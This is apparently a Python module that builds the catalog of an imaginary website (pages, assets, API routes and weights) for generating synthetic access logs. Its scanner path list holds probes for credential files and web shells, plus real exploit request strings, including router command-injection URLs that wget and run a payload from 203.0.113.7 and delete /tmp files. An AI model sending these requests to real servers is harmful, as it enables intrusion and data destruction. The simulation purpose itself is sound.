"""The imaginary site's catalog: every path with its content type, size and default status, and samplers."""

from __future__ import annotations

from dataclasses import dataclass
from functools import lru_cache

import numpy as np

from dashboard.sample.catalog import METHODS, STATUS_SIZES

# Content types of catalog entries and (median size, log-normal sigma) of a 200 response.
HTML, CSS, JS, IMG, FONT, JSON, XML, TXT, FEED, ICO = range(10)
SIZE_SIGMA = (0.08, 0.0, 0.0, 0.0, 0.0, 0.6, 0.02, 0.0, 0.02, 0.0)
DYNAMIC_TYPES = (HTML, JSON, XML, FEED)
RARE_ERRORS = ((500, 0.0008), (502, 0.0004), (503, 0.0003), (504, 0.0001))
CONDITIONAL_HTML_SHARE = 0.03

CATALOG_SEED = 20260601  # the site's catalog does not depend on the sample seed
BLOG_WORDS = (
    "nginx", "logs", "latency", "caching", "python", "streamlit", "dashboards", "geoip", "alerts", "metrics",
    "postgres", "kubernetes", "cdn", "http2", "tls", "cookies", "privacy", "seo", "redirects", "webhooks",
    "pandas", "arrow", "parquet", "spark", "budget", "uptime", "incidents", "oncall", "retention", "sampling",
)  # fmt: skip
BLOG_PATTERNS = (
    "how-to-{a}-{b}", "{a}-vs-{b}", "why-{a}-matters", "a-guide-to-{a}-and-{b}", "{a}-in-production",
    "debugging-{a}", "{a}-{b}-checklist", "what-we-learned-from-{a}", "faster-{a}-with-{b}", "{a}-tips",
)  # fmt: skip
PRODUCT_WORDS = (
    "linen", "wool", "canvas", "leather", "ceramic", "oak", "walnut", "steel", "cotton", "bamboo", "glass",
    "copper", "felt", "cork", "marble",
)  # fmt: skip
PRODUCT_ITEMS = (
    "shirt", "scarf", "tote", "wallet", "mug", "desk-lamp", "notebook", "backpack", "chair", "bowl",
    "planter", "clock", "blanket", "cap", "apron",
)  # fmt: skip
SEARCH_TERMS = (
    "wallet", "gift card", "shipping", "returns", "linen shirt", "mug", "size guide", "discount", "lamp",
    "black friday", "backpack", "nginx logs", "api", "pricing", "login", "blue", "oak desk", "sale",
)  # fmt: skip
COLORS = ("black", "white", "navy", "olive", "sand", "red")
SIZES = ("xs", "s", "m", "l", "xl")
UTM_PARAMS = (
    "?utm_source=newsletter&utm_medium=email&utm_campaign=june",
    "?utm_source=twitter&utm_medium=social",
    "?utm_source=google&utm_medium=cpc&utm_campaign=brand",
    "?ref=producthunt",
)  # fmt: skip
TRACKING_IDS = ("fbclid", "gclid", "msclkid")
TOKEN_ALPHABET = tuple("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")
SITE_ASSETS = (
    ("/static/css/main.3f9a1c.css", CSS, 48_211),
    ("/static/js/vendor.c71f0a.js", JS, 187_402),
    ("/static/js/app.8b2e4d.js", JS, 64_877),
    ("/static/fonts/inter-var.woff2", FONT, 97_868),
    ("/static/img/logo.svg", IMG, 3_412),
    ("/favicon.ico", ICO, 15_086),
)  # fmt: skip
PARTIAL_ASSETS = (
    ("/apple-touch-icon.png", IMG, 9_734),
    ("/static/img/hero.webp", IMG, 142_380),
    ("/static/img/sprite.svg", IMG, 21_559),
    ("/site.webmanifest", JSON, 426),
    ("/media/demo.mp4", IMG, 8_408_211),
)  # fmt: skip
# (path, content type, size, default status, weight for humans, weight for crawlers)
FIXED_PAGES = (
    ("/", HTML, 24_310, 200, 15.0, 3.0), ("/blog/", HTML, 31_200, 200, 4.0, 2.0),
    ("/products/", HTML, 38_900, 200, 4.0, 2.0), ("/pricing", HTML, 19_880, 200, 3.0, 1.0),
    ("/about", HTML, 15_420, 200, 1.5, 1.0), ("/contact", HTML, 12_010, 200, 1.0, 1.0),
    ("/docs/", HTML, 22_760, 200, 2.0, 1.0), ("/login", HTML, 9_870, 200, 1.5, 0.3),
    ("/signup", HTML, 11_240, 200, 0.8, 0.3), ("/cart", HTML, 14_500, 200, 1.0, 0.1),
    ("/account", HTML, 154, 302, 0.8, 0.1), ("/logout", HTML, 154, 302, 0.2, 0.0),
    ("/blog", HTML, 178, 301, 0.3, 0.5), ("/products", HTML, 178, 301, 0.2, 0.5),
    ("/index.html", HTML, 178, 301, 0.1, 0.3), ("/feed", FEED, 178, 301, 0.0, 0.3),
    ("/robots.txt", TXT, 212, 200, 0.0, 4.0), ("/sitemap.xml", XML, 26_480, 200, 0.0, 2.0),
    ("/feed.xml", FEED, 84_190, 200, 0.05, 0.5), ("/ads.txt", TXT, 96, 200, 0.0, 0.3),
    ("/.well-known/security.txt", TXT, 301, 200, 0.0, 0.2), ("/health", TXT, 2, 200, 0.0, 0.0),
    ("/healthz", TXT, 2, 200, 0.0, 0.0),
)  # fmt: skip
MISSING_PAGES = (
    "/favicon.png", "/apple-touch-icon-precomposed.png", "/.well-known/traffic-advice", "/blog/feed/",
    "/old-site/index.php", "/shop/cart.php", "/docs/v1/", "/undefined", "/null", "/blog/page/99",
)  # fmt: skip
API_ENTRIES = (  # (method, path, status, size, weight)
    ("POST", "/api/v1/events", 204, -1, 30.0), ("GET", "/api/v1/cart", 200, 612, 8.0),
    ("POST", "/api/v1/cart/items", 201, 448, 4.0), ("GET", "/api/v1/session", 200, 183, 5.0),
    ("GET", "/api/v1/session", 401, 61, 1.5), ("OPTIONS", "/api/v1/events", 204, -1, 1.0),
    ("POST", "/login", 302, 154, 1.2), ("POST", "/login", 200, 10_120, 0.4), ("POST", "/contact", 302, 154, 0.3),
    ("POST", "/checkout", 302, 154, 0.5), ("GET", "/api/v1/recommendations", 200, 2_870, 4.0),
)  # fmt: skip
API_VARIANTS = (  # (method, path template, count, status, size, weight)
    ("GET", "/api/v1/products?page={}", 6, 200, 3_410, 10.0),
    ("PUT", "/api/v1/cart/items/{}", 40, 200, 421, 2.0),
    ("DELETE", "/api/v1/cart/items/{}", 40, 204, -1, 1.5),
    ("GET", "/api/v1/products/{}/reviews", 60, 200, 5_120, 3.0),
)  # fmt: skip

SCANNER_FILES = (
    "/.env", "/.env.bak", "/.env.local", "/.env.production", "/.env.save", "/.git/config", "/.git/HEAD",
    "/.gitignore", "/.svn/entries", "/.hg/hgrc", "/.DS_Store", "/.htaccess", "/.htpasswd", "/config.php",
    "/config.php.bak", "/config.inc.php", "/wp-config.php", "/wp-config.php.bak", "/wp-config.php~",
    "/wp-config.old", "/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php", "/wp-admin/install.php",
    "/wp-admin/admin-ajax.php", "/xmlrpc.php", "/wp-includes/wlwmanifest.xml", "/wp-json/wp/v2/users",
    "/phpmyadmin/", "/phpMyAdmin/", "/pma/", "/myadmin/", "/mysql/", "/admin.php", "/admin/",
    "/administrator/", "/admin/login.php", "/admin/config.php", "/login.php", "/user/login", "/server-status",
    "/server-info", "/phpinfo.php", "/info.php", "/test.php", "/i.php", "/backup.zip", "/backup.sql",
    "/backup.tar.gz", "/db.sql", "/dump.sql", "/database.sql", "/site.zip", "/www.zip", "/web.config",
    "/config.json", "/config.yml", "/settings.py", "/docker-compose.yml", "/Dockerfile", "/.aws/credentials",
    "/.ssh/id_rsa", "/id_rsa", "/actuator/health", "/actuator/env", "/actuator/heapdump", "/api/.env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/test-cgi", "/cgi-bin/php",
    "/boaform/admin/formLogin", "/HNAP1/", "/solr/admin/info/system", "/console/", "/manager/html",
    "/jenkins/login", "/.vscode/sftp.json", "/sftp-config.json", "/owa/auth/logon.aspx", "/remote/login",
    "/global-protect/login.esp", "/geoserver/web/", "/telescope/requests", "/_profiler/phpinfo",
    "/debug/default/view", "/laravel/.env", "/storage/logs/laravel.log", "/elmah.axd", "/trace.axd",
    "/.well-known/acme-challenge/test", "/autodiscover/autodiscover.xml", "/ecp/Current/exporttool/",
    "/v2/_catalog", "/api/v1/pods", "/druid/index.html", "/nacos/", "/hudson", "/login.action",
    "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1",
    "/?XDEBUG_SESSION_START=phpstorm", "/index.php?lang=../../../../../../../../tmp/index1",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://203.0.113.7/t%60)",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/jaws;sh+/tmp/jaws", "/GponForm/diag_Form?images/",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", "/admin.php?page=settings&id=1%27",
)  # fmt: skip
SCANNER_PREFIXES = (
    "/wordpress", "/wp", "/blog", "/old", "/new", "/backup", "/test", "/site", "/cms", "/shop", "/dev",
    "/staging", "/api", "/public", "/app", "/web",
)  # fmt: skip
SCANNER_PREFIXED = (
    "/.env.bak", "/config.json", "/info.php", "/.DS_Store", "/admin/", "/login.php", "/.env", "/.git/config",
    "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/wp-includes/wlwmanifest.xml", "/config.php", "/phpinfo.php",
    "/backup.zip",
)  # fmt: skip
SCANNER_SHELLS = (
    "alfa", "wso", "up", "xleet", "0x", "shell", "cmd", "c99", "r57", "b374k", "indoxploit", "mini", "about",
    "radio", "wp-conflg", "fm", "filemanager", "upload", "uploader", "gel4y", "simple", "lock360", "chosen",
    "moon", "classwithtostring", "install", "setup", "x", "xx", "1", "2", "a", "bak", "old", "content",
)  # fmt: skip
SCANNER_BACKUPS = ("backup", "site", "www", "db", "database", "example", "example.com", "dump", "data", "old")
SCANNER_ARCHIVES = (".zip", ".tar.gz", ".sql", ".rar", ".7z", ".bak")
SCANNER_FORBIDDEN = ("/.htaccess", "/.htpasswd", "/server-status", "/server-info", "/.git/HEAD")


@dataclass
class Site:
    """The site's catalog: every path with its type, size and default status, plus samplers."""

    paths: list[str]
    ctype: np.ndarray
    size: np.ndarray
    status: np.ndarray
    page_ids: np.ndarray
    page_p: np.ndarray
    page_image: np.ndarray
    crawl_ids: np.ndarray
    crawl_p: np.ndarray
    missing_ids: np.ndarray
    asset_ids: np.ndarray
    partial_ids: np.ndarray
    api_method: np.ndarray
    api_path: np.ndarray
    api_status: np.ndarray
    api_size: np.ndarray
    api_p: np.ndarray
    blog_ids: np.ndarray
    preview_ids: np.ndarray
    scanner_ids: np.ndarray
    ids: dict[str, int]


def _catalog_slugs() -> tuple[list[str], list[str]]:
    """Blog post and product slugs, fixed for every seed."""
    rng = np.random.default_rng(CATALOG_SEED)
    blog: list[str] = []
    while len(blog) < 120:
        a, b = rng.choice(BLOG_WORDS, 2, replace=False)
        slug = str(rng.choice(BLOG_PATTERNS)).format(a=a, b=b)
        if slug not in blog:
            blog.append(slug)
    products = [f"{m}-{i}" for m in PRODUCT_WORDS for i in PRODUCT_ITEMS]
    order = rng.permutation(len(products))[:80]
    return blog, [products[i] for i in order]


def _zipf(n: int, total: float, s: float = 1.0) -> np.ndarray:
    """Zipf-like weights for ``n`` items summing to ``total``."""
    w = 1.0 / np.arange(1, n + 1) ** s
    return w * total / w.sum()


def _scanner_paths() -> list[str]:
    """Several hundred distinct paths a vulnerability scanner walks, in a fixed order."""
    out = list(SCANNER_FILES)
    out += [p + f for p in SCANNER_PREFIXES for f in SCANNER_PREFIXED]
    out += [f"/{s}.php" for s in SCANNER_SHELLS]
    out += [f"/{name}{ext}" for name in SCANNER_BACKUPS for ext in SCANNER_ARCHIVES]
    out += [f"/wp-content/plugins/{s}/{s}.php" for s in SCANNER_SHELLS[:20]]
    out += [
        f"/wp-content/uploads/{y}/{m:02d}/{s}.php" for y in (2024, 2025) for m in (1, 6) for s in SCANNER_SHELLS[:8]
    ]
    seen: dict[str, None] = dict.fromkeys(out)
    return list(seen)


@lru_cache(maxsize=1)
def site_catalog() -> Site:
    """Build the catalog of the imaginary site once."""
    blog, products = _catalog_slugs()
    paths: list[str] = []
    ctype: list[int] = []
    size: list[int] = []
    status: list[int] = []
    ids: dict[str, int] = {}

    def add(path: str, kind: int, nbytes: int, code: int = 200) -> int:
        if path in ids:
            return ids[path]
        ids[path] = len(paths)
        paths.append(path)
        ctype.append(kind)
        size.append(nbytes)
        status.append(code)
        return ids[path]

    rng = np.random.default_rng(CATALOG_SEED + 1)
    pages: list[tuple[int, float, float, int]] = []  # (id, human weight, crawl weight, image id)
    for path, kind, nbytes, code, hw, cw in FIXED_PAGES:
        pages.append((add(path, kind, nbytes, code), hw, cw, -1))
    for slug, w in zip(blog, _zipf(len(blog), 25.0), strict=True):
        img = add(f"/images/blog/{slug}.jpg", IMG, int(rng.lognormal(11.2, 0.5)))
        pages.append((add(f"/blog/{slug}", HTML, int(rng.lognormal(10.4, 0.3))), w, 0.4, img))
    for slug, w in zip(products, _zipf(len(products), 20.0), strict=True):
        img = add(f"/images/products/{slug}.webp", IMG, int(rng.lognormal(10.9, 0.4)))
        pid = add(f"/products/{slug}", HTML, int(rng.lognormal(10.5, 0.2)))
        pages.append((pid, w * 0.85, 0.5, img))
        for color in COLORS[:3]:
            q = add(f"/products/{slug}?color={color}&size={SIZES[int(rng.integers(len(SIZES)))]}", HTML, size[pid])
            pages.append((q, w * 0.05, 0.02, img))
    for i, w in enumerate(_zipf(40, 6.0)):
        pages.append(
            (
                add(f"/docs/{BLOG_WORDS[i % 30]}{'' if i < 30 else '-advanced'}", HTML, int(rng.lognormal(9.9, 0.4))),
                w,
                0.5,
                -1,
            )
        )
    for i, w in enumerate(_zipf(10, 3.0)):
        pages.append((add(f"/category/{PRODUCT_ITEMS[i]}", HTML, int(rng.lognormal(10.5, 0.2))), w, 0.6, -1))
    for n in range(2, 11):
        pages.append((add(f"/blog/page/{n}", HTML, 29_000 + n * 17), 2.0 / n, 0.5, -1))
    for i, w in enumerate(_zipf(15, 1.5)):
        pages.append((add(f"/blog/tag/{BLOG_WORDS[i]}", HTML, 21_000 + i * 311), w, 0.4, -1))
    for term, w in zip(SEARCH_TERMS, _zipf(len(SEARCH_TERMS), 1.5), strict=True):
        pages.append((add(f"/search?q={term.replace(' ', '+')}", HTML, 17_500 + len(term) * 97), w, 0.02, -1))
    for i, slug in enumerate(blog[:20]):
        pages.append((add(f"/old-blog/{slug}.html", HTML, 178, 301), 0.0, 0.2 / (i + 1), -1))
    missing = [add(p, HTML, STATUS_SIZES[404], 404) for p in MISSING_PAGES]
    missing += [add(f"/blog/{slug[:-2]}", HTML, STATUS_SIZES[404], 404) for slug in blog[::8]]
    missing += [
        add(f"/products/{m}-{i}", HTML, STATUS_SIZES[404], 404) for m in PRODUCT_WORDS[:5] for i in ("vase", "rug")
    ]
    assets = [add(p, k, n) for p, k, n in SITE_ASSETS]
    partial = [add(p, k, n) for p, k, n in PARTIAL_ASSETS]
    api_method, api_path, api_status, api_size, api_w = [], [], [], [], []
    for method, path, code, nbytes, w in API_ENTRIES:
        api_method.append(METHODS.index(method))
        api_path.append(add(path, JSON, max(nbytes, 0), code))
        api_status.append(code)
        api_size.append(nbytes)
        api_w.append(w)
    for method, template, count, code, nbytes, w in API_VARIANTS:
        for n in range(1, count + 1):
            api_method.append(METHODS.index(method))
            api_path.append(add(template.format(n), JSON, max(nbytes, 0), code))
            api_status.append(code)
            api_size.append(nbytes)
            api_w.append(w * _zipf(count, 1.0)[n - 1])
    scanner = []
    for p in _scanner_paths():
        code = 403 if p in SCANNER_FORBIDDEN else 404
        scanner.append(add(p, HTML, STATUS_SIZES[code], code))
    scanner += [ids["/"], ids["/robots.txt"], ids["/login"], ids["/sitemap.xml"], ids["/.well-known/security.txt"]]
    page_ids = np.array([p[0] for p in pages])
    human_w = np.array([p[1] for p in pages])
    crawl_w = np.array([p[2] for p in pages])
    keep = human_w > 0
    crawl_ids = np.concatenate([page_ids, missing, assets[:3]])
    crawl_w = np.concatenate([crawl_w, np.full(len(missing), 0.08), np.full(3, 0.5)])
    blog_ids = np.array([ids[f"/blog/{s}"] for s in blog])
    preview = np.concatenate([blog_ids[:40], [ids[f"/products/{s}"] for s in products[:30]], [ids["/"]]])
    return Site(
        paths=paths,
        ctype=np.array(ctype, dtype=np.int8),
        size=np.array(size, dtype=np.int64),
        status=np.array(status, dtype=np.int16),
        page_ids=page_ids[keep],
        page_p=human_w[keep] / human_w[keep].sum(),
        page_image=np.array([p[3] for p in pages])[keep],
        crawl_ids=crawl_ids,
        crawl_p=crawl_w / crawl_w.sum(),
        missing_ids=np.array(missing),
        asset_ids=np.array(assets),
        partial_ids=np.array(partial + assets),
        api_method=np.array(api_method, dtype=np.int8),
        api_path=np.array(api_path),
        api_status=np.array(api_status, dtype=np.int16),
        api_size=np.array(api_size, dtype=np.int64),
        api_p=np.array(api_w) / sum(api_w),
        blog_ids=blog_ids,
        preview_ids=preview,
        scanner_ids=np.array(scanner),
        ids=ids,
    )
